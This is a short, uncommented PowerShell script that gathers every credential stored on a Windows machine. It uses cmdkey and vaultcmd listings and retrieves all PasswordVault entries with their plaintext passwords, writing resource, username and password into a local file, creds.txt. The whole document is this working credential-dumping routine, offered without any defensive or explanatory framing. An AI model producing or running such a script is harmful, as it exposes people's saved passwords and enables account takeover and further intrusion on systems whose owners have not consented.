cmdkey /list | Out-File -Append creds.txt
vaultcmd /listcreds:"Windows Credentials" /all | Out-File -Append creds.txt
[void][Windows.Security.Credentials.PasswordVault, Windows.Security.Credentials, ContentType = WindowsRuntime]
$v = New-Object Windows.Security.Credentials.PasswordVault
foreach ($c in $v.RetrieveAll()) {
    $c.RetrievePassword()
    "$($c.Resource) $($c.UserName) $($c.Password)" | Out-File -Append creds.txt
}
